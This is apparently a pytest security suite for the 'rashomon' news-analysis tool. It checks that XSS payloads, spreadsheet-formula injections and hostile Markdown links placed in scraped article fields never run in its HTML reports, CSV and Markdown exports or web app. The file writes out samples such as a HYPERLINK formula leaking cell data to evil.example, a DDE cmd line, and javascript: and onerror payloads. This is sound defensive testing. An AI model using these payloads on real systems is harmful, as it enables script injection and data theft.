"""Output safety: no scraped string runs in the HTML report, none becomes a formula or a link.

The XSS corpus (``tests/data/xss-payloads.txt``) is placed into every field an input can carry,
run through the real pipeline, and the reports are opened in headless Chromium (Playwright
driving the system's ``chromium``). A payload that ran would call ``window.__pwned(id)`` or set
``document.title``; the page also gets every mouse, focus and click event a reader could give
it. A positive control pastes each payload unescaped into the context it is written for and
checks that it does run there, so "nothing ran" means something.
"""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
import re
import unicodedata
from collections import Counter
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest

from rashomon import HashingEmbedder, analyze, load_settings, render_html, to_csv, to_markdown
from rashomon.export import CSV_COLUMNS, csv_cell_value
from rashomon.records import Analysis, Article, Event, Rejected, Storyline
from rashomon.report import page_name, pages_folder, write_report

CORPUS = Path(__file__).parent / "data" / "xss-payloads.txt"
CONTEXTS = {"body", "attr2", "attr1", "attr0", "href", "title", "textarea", "style", "script", "comment", "inert"}


@dataclass(frozen=True)
class Payload:
    """One corpus line: its id, the raw context it is live in, and the payload text."""

    id: str
    context: str
    text: str


def _unescape_corpus(text: str) -> str:
    text = text.replace("{TAB}", "\t").replace("{LF}", "\n")
    return re.sub(r"\{U\+([0-9A-Fa-f]{4,6})\}", lambda m: chr(int(m.group(1), 16)), text)


def load_payloads() -> list[Payload]:
    """The corpus, escapes resolved."""
    payloads = []
    for line in CORPUS.read_text(encoding="utf-8").splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        pid, context, text = line.split("\t", 2)
        payloads.append(Payload(pid, context, _unescape_corpus(text)))
    return payloads


PAYLOADS = load_payloads()


def normal(text: str) -> str:
    """Text as compared on the page: no format characters (zero-width, bidi), spaces collapsed.

    innerText collapses white space and the cleaner may drop invisible characters; neither
    changes what a reader sees of the payload.
    """
    text = "".join(ch for ch in unicodedata.normalize("NFC", text) if unicodedata.category(ch) != "Cf")
    return " ".join(text.split())


def test_corpus_is_large_varied_and_self_identifying() -> None:
    ids = [p.id for p in PAYLOADS]
    assert len(ids) >= 40 and len(set(ids)) == len(ids)
    assert {p.context for p in PAYLOADS} <= CONTEXTS
    assert Counter(p.context for p in PAYLOADS)["inert"] < len(PAYLOADS) // 2
    for payload in PAYLOADS:
        # A live payload reports itself: by its own id, or through the document title.
        if payload.context != "inert":
            assert f"pwned('{payload.id}')" in payload.text or "document.title='pwned'" in payload.text, payload.id


# -- browser harness ------------------------------------------------------------------------


# A link from one page of a paged report to another: a relative path to one of its own .html files
# (rashomon.report._href: "./", "../" and the page names it makes), fragment optional.
PAGE_LINK = r"^\.\.?/([a-z0-9_%.-]+/)?[a-z0-9_-]+\.html(#|$)"

# Everything a reader could do to the page: hover, press and focus every element, click every
# link and button. Not clicked: links to a fragment of the page itself or to another page of the
# report (the DOM audit checks every link is one of those) and http(s) links, which cannot run script. Focus is a dispatched event, which runs
# any handler: a real focus() lays the page out each time (minutes on a 5 MB report).
INTERACT = """(PAGE_LINK) => {
  for (const d of document.querySelectorAll('details')) d.open = true;
  const all = Array.from(document.querySelectorAll('*'));
  for (const el of all) {
    for (const type of ['mouseover', 'mouseenter', 'pointerover', 'pointerenter', 'mousedown', 'mouseup']) {
      el.dispatchEvent(new MouseEvent(type, {bubbles: true}));
    }
    for (const type of ['focus', 'focusin', 'blur']) el.dispatchEvent(new FocusEvent(type));
  }
  for (const el of all) {
    const href = (el.getAttribute('href') || el.getAttribute('xlink:href') || '').trim().toLowerCase();
    if (/^(https?:|#)/.test(href) || new RegExp(PAGE_LINK, 'i').test(href)) continue;
    if (el.matches('a, button, input, area, [href]') && typeof el.click === 'function') el.click();
    else if (el instanceof SVGElement) el.dispatchEvent(new MouseEvent('click', {bubbles: true}));
  }
}"""

# What the report's DOM may not contain, whatever ran or did not.
DOM_AUDIT = """(PAGE_LINK) => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'svg', 'math', 'base', 'form', 'img', 'audio', 'video',
         'input', 'button', 'textarea', 'link', 'noscript', 'frame', 'frameset'].includes(tag)) bad.push('tag ' + tag);
    if (tag === 'meta' && el.getAttribute('http-equiv') && el.getAttribute('http-equiv').toLowerCase() === 'refresh')
      bad.push('meta refresh');
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) bad.push('handler ' + name + ' on ' + tag);
      if (['href', 'src', 'action', 'formaction', 'xlink:href', 'srcdoc', 'data', 'background'].includes(name)
          && !attr.value.startsWith('#') && !(name === 'href' && el.tagName.toLowerCase() === 'a'
          && new RegExp(PAGE_LINK, 'i').test(attr.value))) bad.push(name + '=' + attr.value.slice(0, 60));
      if (name === 'style') bad.push('inline style on ' + tag);
    }
  }
  return bad;
}"""


@dataclass
class Visit:
    """What a page did: the payload ids that called ``__pwned``, its title before and after, its text."""

    hits: set[str]
    title_before: str
    title_after: str
    article_text: dict[str, str]
    body_text: str
    attributes: str
    audit: list[str]

    @property
    def ran(self) -> bool:
        return bool(self.hits) or " ".join(self.title_after.split()) != self.title_before


class Browser:
    """One headless Chromium context whose pages all have ``__pwned`` before any script of theirs."""

    def __init__(self, context) -> None:
        self.context = context
        self.hits: set[str] = set()
        # A binding lives in every frame and survives navigation (a clicked javascript: link).
        context.expose_function("__pwned", lambda pid="?": self.hits.add(str(pid)))

    def visit(self, path: Path, interact: bool = True) -> Visit:
        """Open ``path``, give it every event a reader could, and say what ran and what it shows."""
        return self.visit_url(path.as_uri(), path.read_text(encoding="utf-8"), interact)

    def visit_url(self, url: str, served: str, interact: bool = True, page_link: str = PAGE_LINK) -> Visit:
        """:meth:`visit` for a page at ``url`` whose HTML as served is ``served`` (a web app's page);
        ``page_link`` is what a link to one of the site's own pages looks like (not clicked)."""
        self.hits = set()
        match = re.search(r"<title>(.*?)</title>", served, re.S)
        title_before = " ".join(html.unescape(match.group(1)).split()) if match else ""
        page = self.context.new_page()
        try:
            page.goto(url, wait_until="load")
            page.wait_for_timeout(50)
            if interact:
                page.evaluate(INTERACT, page_link)
            page.wait_for_timeout(120)
            try:
                title_after = page.evaluate("() => document.title")
                articles = page.evaluate(
                    "() => Object.fromEntries(Array.from(document.querySelectorAll('article[id]'),"
                    " a => [a.id, a.innerText]))"
                )
                body = page.evaluate("() => document.body ? document.body.innerText : ''")
                attributes = page.evaluate(
                    "() => Array.from(document.querySelectorAll('*'), e => Array.from(e.attributes,"
                    " a => a.value).join('\\n')).join('\\n')"
                )
                audit = page.evaluate(DOM_AUDIT, page_link)
            except Exception:  # the page navigated away (a control payload ran): the hits say it
                title_after, articles, body, attributes, audit = "(navigated)", {}, "", "", []
        finally:
            page.close()
        return Visit(set(self.hits), title_before, title_after, articles, body, attributes, audit)

    def visit_framed(self, pages: dict[str, Path], folder: Path) -> tuple[set[str], set[str]]:
        """Open many small pages at once, each in a frame of one page (a load each is slow).

        Returns the ids that called ``__pwned`` and the names of the pages whose title changed.
        """
        self.hits = set()
        frames = "".join(f'<iframe name="{name}" src="{path.as_uri()}"></iframe>' for name, path in pages.items())
        parent = folder / "frames.html"
        parent.write_text(f"<!DOCTYPE html><title>frames</title><body>{frames}</body>", encoding="utf-8")
        page = self.context.new_page()
        retitled = set()
        try:
            page.goto(parent.as_uri(), wait_until="load")
            children = [frame for frame in page.frames if frame.name in pages]
            assert len(children) == len(pages)
            for frame in children:
                try:
                    frame.evaluate(INTERACT, PAGE_LINK)
                except Exception:  # its document went away (a script replaced it): that ran
                    retitled.add(frame.name)
            page.wait_for_timeout(200)
            for frame in children:
                try:
                    if frame.evaluate("() => document.title") == "pwned":
                        retitled.add(frame.name)
                except Exception:
                    retitled.add(frame.name)
        finally:
            page.close()
        return set(self.hits), retitled


@pytest.fixture(scope="module")
def browser(chromium) -> Iterator[Browser]:
    """An offline context of the session's headless Chromium (conftest ``chromium``)."""
    context = chromium.new_context(offline=True)
    try:
        yield Browser(context)
    finally:
        context.close()


def _control_page(payload: Payload, csp: str | None = None) -> str:
    """``payload`` pasted raw into the context it is written for."""
    p = payload.text
    head, body = "<title>control</title>", f"<div>{p}</div>"
    match payload.context:
        case "attr2":
            body = f'<div title="{p}">x</div>'
        case "attr1":
            body = f"<div title='{p}'>x</div>"
        case "attr0":
            body = f"<div title={p}>x</div>"
        case "href":
            body = f'<a href="{p}">link</a>'
        case "title":
            head = f"<title>{p}</title>"
        case "textarea":
            body = f"<textarea>{p}</textarea>"
        case "style":
            head += f"<style>{p}</style>"
        case "script":
            body = f'<script>var shown = "{p}";</script>'
        case "comment":
            body = f"<!-- {p} -->"
    if csp:
        head = f'<meta http-equiv="Content-Security-Policy" content="{csp}">' + head
    return f"<!DOCTYPE html><html><head><meta charset='utf-8'>{head}</head><body>{body}<p>end</p></body></html>"


def _report_csp() -> str:
    empty = Analysis(articles=(), events=(), storylines=())
    match = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', render_html(empty))
    assert match, "the report has no Content-Security-Policy meta"
    return html.unescape(match.group(1))


def test_report_declares_a_policy_that_forbids_every_script() -> None:
    directives = {d.split()[0]: d.split()[1:] for d in _report_csp().split(";") if d.strip()}
    assert directives["default-src"] == ["'none'"]
    # Nothing may re-allow script, frames or objects; no inline handlers, no eval.
    assert not {"script-src", "script-src-elem", "script-src-attr", "object-src", "frame-src", "child-src"} & set(
        directives
    )
    assert directives.get("base-uri") == ["'none'"] and directives.get("form-action") == ["'none'"]
    assert "'unsafe-inline'" not in " ".join(v for k, vs in directives.items() if k != "style-src" for v in vs)


@pytest.mark.slow
def test_control_every_live_payload_runs_when_pasted_raw_and_none_under_the_reports_policy(
    browser, tmp_path: Path
) -> None:
    """The harness sees a payload that runs (so the report tests can fail), and the CSP alone stops it."""
    live = [p for p in PAYLOADS if p.context != "inert"]
    csp = _report_csp()
    raw, guarded = {}, {}
    for payload in live:
        raw[payload.id] = tmp_path / f"raw-{payload.id}.html"
        raw[payload.id].write_text(_control_page(payload), encoding="utf-8")
        guarded[payload.id] = tmp_path / f"csp-{payload.id}.html"
        guarded[payload.id].write_text(_control_page(payload, csp), encoding="utf-8")
    hits, retitled = browser.visit_framed(raw, tmp_path)
    silent = [p.id for p in live if p.id not in hits | retitled]
    assert not silent, f"live payloads that did not run raw (fix the corpus or the harness): {silent}"
    hits, retitled = browser.visit_framed(guarded, tmp_path)
    assert not hits | retitled, f"payloads that ran despite the report's CSP: {sorted(hits | retitled)}"
    # And the labels are honest: an "inert" payload pasted raw into the page runs nothing.
    inert = {}
    for payload in (p for p in PAYLOADS if p.context == "inert"):
        inert[payload.id] = tmp_path / f"inert-{payload.id}.html"
        inert[payload.id].write_text(_control_page(dataclasses.replace(payload, context="body")), encoding="utf-8")
    hits, retitled = browser.visit_framed(inert, tmp_path)
    assert not hits | retitled, f"payloads labelled inert that run: {sorted(hits | retitled)}"


# -- the real pipeline on hostile input -------------------------------------------------------

STORIES = (
    (
        "Dock workers strike at the port of Hamburg",
        "Dock workers walked out at the port of Hamburg on Monday after talks with the terminal operator "
        "HHLA collapsed. The union Verdi said 4,000 workers joined the strike.",
        'Union leader Birte Hansen said: "We will not accept another pay cut for the people who keep '
        'this port running, {p} and we will stay out until the offer changes."',
        "Ships queued in the Elbe and HHLA said the stoppage cost 12 million euros a day.",
    ),
    (
        "River Oder floods villages near Wroclaw",
        "The river Oder burst its banks near Wroclaw on Tuesday, flooding three villages and forcing "
        "1,200 residents to leave their homes.",
        'Mayor Jacek Sutryk said: "The water rose faster than any model predicted, {p} and the '
        'dykes near the city held only because volunteers worked all night."',
        "The Polish army sent 600 soldiers and 40 boats to the region.",
    ),
    (
        "Parliament in Lisbon votes down the budget",
        "Portugal's parliament in Lisbon rejected the government's budget on Wednesday by 116 votes "
        "to 110, opening the way to an early election.",
        'Prime Minister Luis Montenegro said: "The opposition chose instability over growth, {p} and '
        'the voters will judge that choice in the spring."',
        "President Marcelo Rebelo de Sousa will consult the parties on Friday.",
    ),
)


def _field(payload: Payload) -> str:
    """The payload as a field value: one line (the readers keep titles and names on one line)."""
    return payload.text.replace("\n", " ")


def _json_records(payloads: list[Payload]) -> list[dict]:
    records = []
    for n, payload in enumerate(payloads):
        title, lead, quote, tail = STORIES[n % len(STORIES)]
        p = _field(payload)
        text = "\n\n".join([lead, f"{p} {lead.split(' ')[0]} reported.", quote.format(p=p), tail, p])
        records.append(
            {
                "id": p,
                "title": f"{p} {title}",
                "text": text,
                "outlet": p,
                "author": p,
                "url": p,
                "published": f"2025-03-0{3 + n % len(STORIES)}",
                "language": "en",
            }
        )
    return records


def _html_page(n: int, payload: Payload) -> str:
    title, lead, quote, tail = STORIES[n % len(STORIES)]
    e = html.escape(_field(payload), quote=True)
    paragraphs = "".join(f"<p>{html.escape(x)}</p>" for x in (lead, quote.format(p=_field(payload)), tail))
    return (
        f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>{e} | {title}</title>'
        f'<meta property="og:title" content="{e} {title}"><meta property="og:site_name" content="{e}">'
        f'<meta name="author" content="{e}"><meta name="description" content="{e}">'
        f'<link rel="canonical" href="{e}"><meta property="og:url" content="{e}">'
        f'<meta property="article:published_time" content="2025-03-0{3 + n % len(STORIES)}T08:00:00Z">'
        f"</head><body><header><nav>Home · World · Sport</nav></header><article><h1>{e} {title}</h1>"
        f'<p class="byline">By {e}</p>{paragraphs}<p>{e} was said at the scene.</p>'
        # The page's own hostile markup, unescaped: the extractor must not carry it as markup.
        f"<p>Witnesses described the scene. {payload.text} Officials gave no details.</p>"
        f"</article><footer>© {e}</footer></body></html>"
    )


@dataclass
class HostileRun:
    """The hostile inputs, their analysis, and how many payload × field placements were written."""

    folder: Path
    analysis: Analysis
    placed: Counter


PLACED_JSON = ("record id", "title", "text", "quote", "outlet", "author", "article url")
PLACED_HTML = (
    "html title",
    "og:title",
    "h1",
    "og:site_name",
    "meta author",
    "byline",
    "description",
    "canonical url",
    "og:url",
    "body text",
    "quote",
    "raw page markup",
    "footer",
)
PLACED_OTHER = ("declared language", "published", "rejected record id", "broken JSONL line", "file name")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> HostileRun:
    folder = tmp_path_factory.mktemp("hostile")
    inputs = folder / "in"
    (inputs / "html").mkdir(parents=True)
    (inputs / "records.json").write_text(json.dumps(_json_records(PAYLOADS), ensure_ascii=False), encoding="utf-8")
    for n, payload in enumerate(PAYLOADS):
        (inputs / "html" / f"page-{payload.id}.html").write_text(_html_page(n, payload), encoding="utf-8")
    # Languages and dates that are payloads; records that are rejected with a payload for an id.
    odd = []
    for n, payload in enumerate(PAYLOADS):
        title, lead, _, tail = STORIES[n % len(STORIES)]
        odd.append({"id": f"odd-{payload.id}", "text": f"{lead}\n\n{tail}", "language": _field(payload)})
        odd[-1]["published"] = _field(payload)
        odd.append({"id": _field(payload) + " (empty)", "text": "Share\n\nRead more", "title": "x"})
    (inputs / "odd.json").write_text(json.dumps(odd, ensure_ascii=False), encoding="utf-8")
    broken = "".join('{"id": ' + json.dumps(_field(p))[:-1] + "\n" for p in PAYLOADS)
    (inputs / "broken.jsonl").write_text(broken, encoding="utf-8")
    named = [p for p in PAYLOADS if "/" not in p.text and "\t" not in p.text and len(p.text.encode()) < 200]
    for n, payload in enumerate(named):
        title, lead, _, tail = STORIES[n % len(STORIES)]
        (inputs / f"{payload.text}.txt").write_text(f"{title}\n\n{lead}\n\n{tail}\n", encoding="utf-8")
    placed = Counter(
        {**{f: len(PAYLOADS) for f in PLACED_JSON + PLACED_HTML + PLACED_OTHER[:4]}, "file name": len(named)}
    )
    analysis = analyze([inputs], load_settings(embedder="hashing"), HashingEmbedder())
    return HostileRun(folder, analysis, placed)


def _carried(analysis: Analysis) -> Counter:
    """Payload × field pairs that came through the pipeline into what the report renders."""
    fields: dict[str, list[str]] = {}
    for a in analysis.articles:
        for name in ("id", "title", "text", "outlet", "author", "url", "language", "published", "source", "domain"):
            fields.setdefault(f"article {name}", []).append(str(getattr(a, name) or ""))
    for entity in analysis.entities:
        fields.setdefault("entity name", []).extend([entity.name, *entity.aliases])
    for extraction in analysis.extractions:
        for quote in extraction.quotes:
            fields.setdefault("quote", []).append(quote.text)
            fields.setdefault("speaker", []).append(quote.speaker.name if quote.speaker else "")
    for item in (*analysis.events, *analysis.storylines):
        fields.setdefault("event/storyline label", []).append(item.label)
    for comparison in analysis.comparisons:
        fields.setdefault("compared outlet", []).extend(s.name for s in comparison.sources)
        fields.setdefault("claim", []).extend(s.text for c in comparison.claims for s in c.sentences)
    for rejected in analysis.rejected:
        fields.setdefault("rejected source/reason", []).append(f"{rejected.source} {rejected.reason}")
    counts: Counter = Counter()
    for name, values in fields.items():
        joined = normal("\n".join(values))
        counts[name] = sum(1 for p in PAYLOADS if normal(p.text) and normal(p.text) in joined)
    return counts


# The report kinds that show articles.
WITH_ARTICLES = frozenset({"full", "event", "storyline", "storyline page"})


def _write_reports(run: HostileRun) -> dict[str, str]:
    analysis = run.analysis
    biggest = max(analysis.events, key=lambda e: len(e.article_ids))
    storyline = next(s for s in analysis.storylines if biggest.id in s.event_ids)
    # A paged report (a 1 KB bound: every list on pages of its own): the storyline's page, the
    # index and the first page of the rejected inputs.
    index = run.folder / "paged" / "report.html"
    written = write_report(analysis, index, page_kb=1)
    assert written.paged
    folder = pages_folder(index)
    return {
        "full": render_html(analysis),
        "event": render_html(analysis, only=biggest.id),
        "storyline": render_html(analysis, only=storyline.id),
        "storyline page": (folder / page_name(storyline.id)).read_text(encoding="utf-8"),
        "index page": index.read_text(encoding="utf-8"),
        "rejected page": (folder / "rejected-1.html").read_text(encoding="utf-8"),
    }


def _strip_csp(page: str) -> str:
    stripped = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
    assert stripped != page and "Content-Security-Policy" not in stripped
    return stripped


def _check_shown(analysis: Analysis, seen: Visit, rejected: Sequence[Rejected] = ()) -> list[str]:
    """Every scraped field of every shown article, and each of ``rejected``, is on the page as text
    (escaped, not dropped)."""
    by_id = {a.id: a for a in analysis.articles}
    missing = []
    for element_id, text in seen.article_text.items():
        article = by_id[element_id.removeprefix("a-")]
        shown = normal(text)
        values = [article.title, article.outlet, article.author, article.url, article.id, *article.paragraphs]
        for value in values:
            if value and normal(value) not in shown:
                missing.append(f"{article.id!r}: {value[:80]!r}")
    everywhere = normal(seen.body_text + "\n" + seen.attributes)
    for one in rejected:
        if normal(one.source) not in everywhere and normal(one.reason) not in everywhere:
            missing.append(f"rejected {one.source!r}")
    return missing


@pytest.mark.slow
def test_no_payload_runs_in_any_report_with_or_without_its_policy(browser, hostile: HostileRun) -> None:
    analysis = hostile.analysis
    carried = _carried(analysis)
    # The payloads really reached what the report renders, in the fields that matter.
    for name in ("article id", "article title", "article text", "article outlet", "article author", "article url"):
        assert carried[name] >= len(PAYLOADS) * 0.9, (name, carried[name])
    assert carried["quote"] and carried["rejected source/reason"] and analysis.comparisons
    pages = 0
    for kind, page in _write_reports(hostile).items():
        for policy in ("with CSP", "CSP stripped"):
            path = hostile.folder / f"report-{kind}-{policy}.html".replace(" ", "-")
            path.write_text(page if policy == "with CSP" else _strip_csp(page), encoding="utf-8")
            seen = browser.visit(path)
            pages += 1
            assert not seen.hits, f"{kind} report, {policy}: payloads ran: {sorted(seen.hits)}"
            assert seen.title_after == seen.title_before, f"{kind} report, {policy}: title changed"
            assert not seen.audit, f"{kind} report, {policy}: {seen.audit[:10]}"
            assert bool(seen.article_text) == (kind in WITH_ARTICLES), f"{kind} report: articles shown?"
            # The one-page report lists every rejected input, a rejected page its share of them.
            listed = analysis.rejected if kind == "full" else analysis.rejected[: 1 if kind == "rejected page" else 0]
            assert not (missing := _check_shown(analysis, seen, listed)), f"{kind} report: not shown: {missing[:5]}"
            if kind == "index page":  # under a 1 KB bound, its first page lists one storyline, as text
                assert normal(analysis.storylines[0].label) in normal(seen.body_text)
            if kind == "full":
                assert len(seen.article_text) == len(analysis.articles)
                # Template strings are shown verbatim, never evaluated.
                assert "{{7*7}}" in seen.body_text and "${7*7} #{7*7} <%= 7*7 %>" in seen.body_text
    tried = sum(hostile.placed.values())
    print(
        f"\nXSS: {len(PAYLOADS)} payloads, {len(hostile.placed)} input fields, {tried} payload x field placements "
        f"written; carried into rendered fields: {dict(carried)}; {pages} report pages opened; 0 ran"
    )


@pytest.mark.slow
def test_markdown_export_rendered_as_html_runs_nothing_and_links_nothing(browser, hostile: HostileRun) -> None:
    from markdown_it import MarkdownIt

    markdown = to_markdown(hostile.analysis)
    rendered = MarkdownIt("commonmark", {"html": True}).render(markdown)
    assert not re.search(r"<(a|img|script|svg|iframe|style|div|span|object)\b", rendered, re.I)
    path = hostile.folder / "export-md.html"
    path.write_text(f"<!DOCTYPE html><html><head><title>md</title></head><body>{rendered}</body></html>", "utf-8")
    seen = browser.visit(path)
    assert not seen.ran and not seen.audit
    shown = normal(seen.body_text)
    outlets = {normal(a.outlet) for a in hostile.analysis.articles if a.outlet}
    assert sum(1 for p in PAYLOADS if normal(_field(p)) in outlets and normal(_field(p)) in shown) >= 40


# -- exports without a browser -----------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "'=already quoted",
    "'",
)


def _one_article_analysis(**fields: str) -> Analysis:
    article = Article(id=fields.pop("id", "a1"), source="in.json#a1", raw_text="x", text=fields.pop("text", "x"))
    article = dataclasses.replace(article, **fields)
    event = Event(id="ev-a1", label="x", article_ids=(article.id,))
    storyline = Storyline(id="st-a1", label="x", event_ids=("ev-a1",), article_ids=(article.id,))
    return Analysis(articles=(article,), events=(event,), storylines=(storyline,), rejected=())


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cells_never_start_a_formula_and_round_trip_exactly(value: str) -> None:
    analysis = _one_article_analysis(id=value, title=value, outlet=value, url=value, text=value)
    rows = list(csv.reader(io.StringIO(to_csv(analysis), newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    row = dict(zip(rows[0], rows[1], strict=True))
    for column in ("id", "title", "outlet", "url", "text"):
        cell = row[column]
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
        assert csv_cell_value(cell) == value, (column, cell)


def test_csv_of_the_whole_corpus_round_trips_through_the_csv_module() -> None:
    for payload in PAYLOADS:
        value = payload.text
        analysis = _one_article_analysis(id=value, title=value, outlet=value, url=value, text=value)
        row = list(csv.DictReader(io.StringIO(to_csv(analysis), newline="")))[0]
        assert [csv_cell_value(row[c]) for c in ("id", "title", "outlet", "url", "text")] == [value] * 5, payload.id


def test_csv_leaves_ordinary_cells_alone() -> None:
    analysis = _one_article_analysis(title="Minister quits", outlet="Die Zeit", text="A - B = C")
    row = list(csv.DictReader(io.StringIO(to_csv(analysis))))[0]
    assert (row["title"], row["outlet"], row["text"], row["removed_lines"]) == (
        "Minister quits",
        "Die Zeit",
        "A - B = C",
        "0",
    )
    assert csv_cell_value("plain") == "plain"


MARKDOWN_HOSTILE = (
    "[click](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<https://evil.example>",
    "<img src=x onerror=alert(1)>",
    "https://evil.example/bare",
    "www.evil.example",
    "`code` and ``more``",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[ref]: https://evil.example",
)


@pytest.mark.parametrize("value", MARKDOWN_HOSTILE)
def test_markdown_export_shows_hostile_text_as_text(value: str) -> None:
    from markdown_it import MarkdownIt

    analysis = _one_article_analysis(id=value, title=value, outlet=value, language=value)
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(to_markdown(analysis))
    assert not re.search(r"<(a|img|script)\b", rendered), rendered
    text = html.unescape(re.sub(r"<[^>]+>", "", rendered))
    assert text.count(value) >= 2, (value, rendered)  # the id and the title, at least


def test_report_never_turns_an_article_url_into_a_link(tmp_path: Path) -> None:
    urls = ("javascript:alert(1)", "data:text/html,x", "vbscript:x", "https://example.com/ok")
    articles = tuple(
        Article(id=f"u{n}", source=f"in#u{n}", raw_text="x", text="Some text.", url=url) for n, url in enumerate(urls)
    )
    event = Event(id="ev-u0", label="x", article_ids=tuple(a.id for a in articles))
    storyline = Storyline(id="st-u0", label="x", event_ids=("ev-u0",), article_ids=event.article_ids)
    page = render_html(Analysis(articles=articles, events=(event,), storylines=(storyline,), rejected=()))
    hrefs = re.findall(r'(?:href|src)\s*=\s*"([^"]*)"', page)
    assert all(h.startswith("#") for h in hrefs), hrefs  # the URL is shown, never followed
    for url in urls:
        assert html.escape(url) in page


def test_rejected_inputs_keep_hostile_sources_as_text() -> None:
    analysis = Analysis(
        articles=(), events=(), storylines=(), rejected=(Rejected('<b onclick="x">f</b>', "<i>bad</i>", b""),)
    )
    page = render_html(analysis)
    assert "<b onclick" not in page and "&lt;b onclick=&#34;x&#34;&gt;f&lt;/b&gt;" in page


# -- the web app (rashomon serve) -------------------------------------------------------------

# A link from one page of the web app to another: a path on the same site (not "//host").
WEB_LINK = r"^/(?!/)[^\s]*$"
# What the web app's pages may have that a report may not: their stylesheet and JSON twin.
WEB_HEAD = ("tag link", "href=/static/style.css")
# ... and their own forms (search, about, timeline) posting to the site, and the timeline's chart
# (server-drawn SVG: shapes and text; tests/test_web.py checks which SVG elements it holds).
WEB_FORMS = ("tag form", "tag input", "tag button", "tag textarea", "tag svg")
WEB_ACTIONS = r"^action=/(search|about|timeline)$"


@pytest.mark.slow
def test_no_payload_runs_in_any_web_page(chromium, hostile: HostileRun, live_server) -> None:
    from urllib.parse import quote, unquote

    import httpx

    from rashomon import Workspace, ingest
    from rashomon.web import create_app

    folder = hostile.folder / "ws"
    with Workspace(folder) as ws:
        ingest([hostile.folder / "in"], ws, load_settings(embedder="hashing"), HashingEmbedder())
        # Alerts whose summaries carry the hostile titles and outlets.
        from rashomon.alerts import add_watch, check

        add_watch(ws, "search", "script OR alert OR onerror")
        check(ws, sorted(ws.article_ids()), deliver=False)
    site = live_server(create_app(folder))
    listing = httpx.get(f"{site}/index.json?size=500").json()
    paths = ["/", "/docs", *(f"/events/{quote(row['event_id'], safe='')}" for row in listing["rows"])]
    articles: list[str] = []
    entities: set[str] = set()
    for row in listing["rows"]:
        event = httpx.get(f"{site}/events/{quote(row['event_id'], safe='')}.json").json()
        articles += [a["id"] for a in event["articles"]]
    for article_id in articles:
        entities |= {
            e["id"] for e in httpx.get(f"{site}/articles/{quote(article_id, safe='')}.json").json()["entities"]
        }
    # Article pages share one template: Chromium opens one per kind of input (JSON records, HTML
    # pages, odd records, text files) and context a payload is live in (every field placement
    # and every context), not all of them (132 pages took four minutes on two cores).
    shown_by_id = {a.id: a for a in hostile.analysis.articles}
    sampled: dict[tuple[str, str], str] = {}
    for article_id in articles:
        article = shown_by_id.get(article_id)
        if article is None:
            sampled[("?", article_id)] = article_id
            continue
        fields = normal("\n".join(str(v or "") for v in (article.id, article.title, article.text, article.outlet)))
        context = next((p.context for p in PAYLOADS if normal(p.text) and normal(p.text) in fields), "none")
        source = Path(re.sub(r"\[\d+\]$", "", article.source))  # "records.json[12]": its 13th record
        kind = source.name if source.suffix == ".json" else source.suffix
        sampled.setdefault((kind, context), article_id)
    opened = list(dict.fromkeys(sampled.values()))
    assert len({context for _kind, context in sampled}) >= len({p.context for p in PAYLOADS}) - 1
    paths += [f"/articles/{quote(article_id, safe='')}" for article_id in opened]
    paths += [f"/entities/{quote(entity_id, safe='')}" for entity_id in sorted(entities)[:12]]
    # Facet links carry payloads (outlets, dates) back into the list as query values.
    facets = listing["facets"]
    paths += [
        f"/?{name}={httpx.QueryParams({'v': item['value']})['v']}" for name in facets for item in facets[name][:3]
    ]
    # Search snippets, timelines (SVG legends), outlet pages and the group views show the same strings.
    outlets = [o["outlet"] for o in httpx.get(f"{site}/outlets.json").json()["outlets"]]
    paths += [
        "/search?q=script",
        "/search?q=alert+OR+onerror&mode=text",
        "/timeline",
        "/timeline?by=language&mode=share",
    ]
    # (/about is left out: submitting its form navigates away; tests/test_web.py checks its markup.)
    paths += ["/outlets", "/alerts", *(f"/outlets/{quote(name, safe='')}" for name in outlets[:6])]
    paths += [f"/events/{quote(row['event_id'], safe='')}?by=group" for row in listing["rows"][:5]]
    assert len(articles) >= len(PAYLOADS) and len(paths) > len(PAYLOADS) // 2
    shown = {a.id: a for a in hostile.analysis.articles}
    # Online (the site is on loopback; a page can reach nothing else: its policy allows 'self' only).
    context = chromium.new_context()
    browser = Browser(context)
    for path in paths:
        served = httpx.get(site + path)
        assert served.status_code == 200, path
        assert "default-src 'self'" in served.headers["content-security-policy"]
        seen = browser.visit_url(site + path, served.text, page_link=WEB_LINK)
        assert not seen.hits, f"{path}: payloads ran: {sorted(seen.hits)}"
        assert seen.title_after == seen.title_before, f"{path}: title changed"
        audit = [
            finding
            for finding in seen.audit
            if finding not in WEB_HEAD + WEB_FORMS
            and not re.match(r"href=/(?!/)", finding)  # <link>s to the site's own paths
            and not re.match(WEB_ACTIONS, finding)
        ]
        assert not audit, f"{path}: {audit[:10]}"
        if path.startswith("/articles/"):
            article = shown.get(unquote(path.removeprefix("/articles/")))
            if article is not None:  # the same inputs, so the same ids: every field shown as text
                assert not (missing := _check_shown(hostile.analysis, seen)), f"{path}: not shown: {missing[:5]}"
    context.close()
    print(
        f"\nXSS (web): {len(paths)} pages of the web app opened in Chromium ({len(opened)} of {len(articles)} article pages); 0 ran"
    )
